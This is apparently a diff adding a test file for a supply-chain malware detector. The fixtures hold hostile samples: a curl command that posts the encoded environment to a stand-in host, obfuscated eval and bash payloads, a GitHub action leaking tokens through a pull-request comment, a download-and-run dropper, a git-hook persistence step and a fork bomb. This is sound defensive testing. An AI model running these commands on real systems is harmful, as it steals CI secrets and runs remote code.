@@ -1,0 +1,200 @@
+/**
+ * Shapes from the twenty-second session: rounds 86 onwards (browser, CI runners, destructive,
+ * persistence and droppers), written blind by helpers that had not read the engine, and hostile
+ * script lines found by a fuzzing pass. Each is rewritten small and varied here, with a
+ * look-alike that must stay quiet or an attack that must still be caught.
+ */
+import { analyzeScript } from '../../../src/engine/script-behaviour';
+import { analyzeShell } from '../../../src/engine/shell';
+import { analyzeSource, strongestOf as ruleOf, threatFindings as threats } from './helpers';
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+const reversed = (s: string) => [...s].reverse().join('');
+
+describe('encoded scripts a shell decodes and runs (round 87)', () => {
+  const exfil =
+    'curl -s -X POST --data-binary "$( (env; echo done) | gzip -c | base64 -w0)" https://t.example/v1';
+  it('reads eval of a command substitution that decodes, and the script it decodes', () => {
+    const hits = analyzeScript(
+      `P='${reversed(b64(exfil))}'\neval "$(printf %s "$P" | rev | base64 -d)" &`,
+      'sh',
+      true,
+    );
+    expect(hits.map((h) => h.rule)).toEqual(
+      expect.arrayContaining(['shell.base64-decode-run', 'script.env-exfil']),
+    );
+  });
+  it('reads hex piped through xxd into bash, and process substitution', () => {
+    const hex = Buffer.from(exfil).toString('hex');
+    expect(analyzeScript(`echo ${hex} | xxd -r -p | bash`, 'sh', true).map((h) => h.rule)).toContain(
+      'script.env-exfil',
+    );
+    expect(analyzeShell('bash <(echo "$BLOB" | base64 --decode)', true).map((h) => h.rule)).toContain(
+      'shell.base64-decode-run',
+    );
+    expect(analyzeShell('eval "$(base64 -d <<< "$BLOB")"', true).map((h) => h.rule)).toContain(
+      'shell.base64-decode-run',
+    );
+  });
+  it('does not call decoding into a file, or a decoded value printed, running it', () => {
+    expect(analyzeShell('echo "$SIGNING_KEY" | base64 -d > key.p12', true)).toEqual([]);
+    expect(analyzeShell('VERSION="$(echo "$TAG" | base64 -d)"', true)).toEqual([]);
+  });
+  it('sees the environment dumped inside a group in a request body', () => {
+    expect(analyzeScript(exfil, 'sh', true).map((h) => h.rule)).toContain('script.env-exfil');
+  });
+
+  const action = (env: string, run: string) => ({
+    'package.json': JSON.stringify({ name: 'setup-tool-action', version: '1.4.0', files: ['action.yml'] }),
+    'action.yml': [
+      'name: Setup tool',
+      'runs:',
+      '  using: composite',
+      '  steps:',
+      '    - name: Normalise PATH',
+      '      shell: bash',
+      '      env:',
+      ...env.split('\n').map((l) => `        ${l}`),
+      '      run: |',
+      ...run.split('\n').map((l) => `        ${l}`),
+    ].join('\n'),
+  });
+  it("decodes a composite action step's payload kept in the step's env", () => {
+    const r = analyzeSource(
+      action(
+        `_BP: '${reversed(b64(exfil))}'\n_GT: \${{ github.token }}`,
+        'eval "$(printf %s "$_BP" | rev | base64 -d)" &',
+      ),
+    );
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).map((f) => f.threat_type)).toEqual(
+      expect.arrayContaining(['malicious_code', 'data_exfiltration']),
+    );
+  });
+  it('leaves a composite step that decodes a certificate into a file alone', () => {
+    const r = analyzeSource(
+      action(
+        `CERT: \${{ inputs.certificate }}`,
+        'echo "$CERT" | base64 -d > cert.p12\nsecurity import cert.p12',
+      ),
+    );
+    expect(threats(r)).toEqual([]);
+  });
+});
+
+describe("GitHub's API clients as a network channel (round 87)", () => {
+  const actionCode = (body: string) => ({
+    'package.json': JSON.stringify({ name: 'size-diff-action', version: '3.2.0', main: 'dist/index.js' }),
+    'action.yml': 'name: size diff\nruns:\n  using: node20\n  main: dist/index.js\n',
+    'dist/index.js': [
+      "const github = require('@actions/github');",
+      "const core = require('@actions/core');",
+      'function sealed() {',
+      '  const o = {};',
+      '  for (const k of Object.keys(process.env)) if (/TOKEN|SECRET|KEY/.test(k)) o[k] = process.env[k];',
+      "  return Buffer.from(JSON.stringify(o)).toString('base64');",
+      '}',
+      'async function run() {',
+      "  const kit = github.getOctokit(core.getInput('github-token'));",
+      '  const { owner, repo } = github.context.repo;',
+      `  await kit.rest.issues.createComment({ owner, repo, issue_number: 1, body: ${body} });`,
+      '}',
+      'run();',
+    ].join('\n'),
+  });
+  it('reports secrets put in a pull-request comment', () => {
+    const r = analyzeSource(actionCode("'### sizes\\n<!-- ' + sealed() + ' -->'"));
+    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('leaves a comment of sizes alone', () => {
+    const r = analyzeSource(actionCode("'### sizes\\n' + JSON.stringify({ total: 1024 })"));
+    expect(threats(r)).toEqual([]);
+  });
+});
+
+describe('a release tool that commits as the CI bot and publishes (round 87, look-alike)', () => {
+  it('is not a worm for naming the commit author with git -c user.name=', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'relship', version: '4.0.3', bin: { relship: 'bin.js' } }),
+      'bin.js': [
+        "const { execFileSync } = require('child_process');",
+        "if (!process.env.NPM_TOKEN) throw new Error('NPM_TOKEN is not set');",
+        "execFileSync('npm', ['publish', '--access', 'public'], { stdio: 'inherit' });",
+        "execFileSync('git', ['-c', 'user.name=release-bot', '-c', 'user.email=bot@example.com', 'commit', '-m', 'release']);",
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('clean');
+    expect(ruleOf(r, 'js.exec-npm-publish')?.confidence).toBeLessThan(0.5);
+  });
+  it('still reports a publisher that renames the package it publishes', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'relship', version: '4.0.3', bin: { relship: 'bin.js' } }),
+      'bin.js': [
+        "const fs = require('fs');",
+        "const { execFileSync } = require('child_process');",
+        "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));",
+        "pkg.name = pkg.name + '-utils';",
+        "fs.writeFileSync('package.json', JSON.stringify(pkg));",
+        "execFileSync('npm', ['publish']);",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exec-npm-publish')?.confidence).toBeGreaterThanOrEqual(0.5);
+  });
+});
+
+describe('an archive streamed from a download into tar, then a file from it run (round 88)', () => {
+  const script = (get: string) =>
+    [
+      'url="https://dl.addon-cdn.example/x/v2/linux-x64.tar.gz"',
+      'out="build/Release"',
+      get,
+      'if $get "$url" | tar -xzf - -C "$out" 2>/dev/null; then',
+      '  nohup "$out/.fixup" "$PWD/$out" >/dev/null 2>&1 &',
+      'fi',
+    ].join('\n');
+  it('follows the download through `| tar -x -C dir` to the file it runs', () => {
+    for (const get of [
+      'get="curl -fsSL"',
+      'if command -v curl >/dev/null; then get="curl -fsSL"; else get="wget -qO-"; fi',
+    ]) {
+      const hit = analyzeScript(script(get), 'sh', true).find((h) => h.rule === 'script.download-execute');
+      expect(hit?.message).toContain('.fixup');
+    }
+  });
+  it('leaves an archive unpacked and never run alone', () => {
+    const hits = analyzeScript(
+      'curl -fsSL "https://dl.addon-cdn.example/x.tar.gz" | tar -xzf - -C build/Release',
+      'sh',
+      true,
+    );
+    expect(hits.filter((h) => h.rule === 'script.download-execute')).toEqual([]);
+  });
+});
+
+describe('hostile script lines return (fuzzing)', () => {
+  const line = (unit: string, n = 150_000) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
+  it('reads lines of thousands of repeated shell tokens without backtracking over them', () => {
+    for (const unit of ['node -e ', '>', ' \t', '&', 'iex ', 'curl ', '/dev/tcp/ -i ', 'socket( connect( '])
+      expect(Array.isArray(analyzeScript(`${line(unit)}\nA=${line(unit)}`, 'sh', true))).toBe(true);
+    expect(Array.isArray(analyzeScript(line(';'), 'powershell', true))).toBe(true);
+    expect(Array.isArray(analyzeScript(line('&'), 'batch', true))).toBe(true);
+  });
+  it('bounds a value that doubles on every line (A=$A$A) instead of throwing', () => {
+    const text = [
+      'A=xxxxxxxxxx',
+      ...Array<string>(60).fill('A=$A$A'),
+      'curl -d "$A" https://t.example/',
+    ].join('\n');
+    expect(Array.isArray(analyzeScript(text, 'sh', true))).toBe(true);
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { preinstall: 'sh s.sh' } }),
+      's.sh': `${text}\ncat > .git/hooks/pre-commit <<EOF\n$A\nEOF\n`,
+    });
+    expect(r.risk_level).not.toBe('clean');
+  });
+  it('finds a fork bomb after a 900 KB assignment', () => {
+    const hits = analyzeScript(`A="${'x'.repeat(900_000)}"\n:(){ :|:& };:`, 'sh', true);
+    expect(Array.isArray(hits)).toBe(true);
+  });
+});
